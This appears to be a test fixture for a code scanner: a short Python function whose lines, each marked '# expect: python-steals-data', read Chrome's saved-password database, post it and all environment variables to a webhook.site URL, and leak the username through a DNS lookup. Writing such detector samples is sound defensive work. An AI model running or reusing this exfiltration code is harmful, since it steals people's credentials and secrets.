import getpass
import os
import socket

import requests

DROP = "https://webhook.site/0000"


def take():
    # expect: python-steals-data
    folder = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")
    with open(folder, "rb") as file:
        requests.post(DROP, data=file.read())
    # expect: python-steals-data
    requests.post(DROP, json=dict(os.environ))
    # expect: python-steals-data
    socket.gethostbyname(getpass.getuser() + ".names.corp.dev")
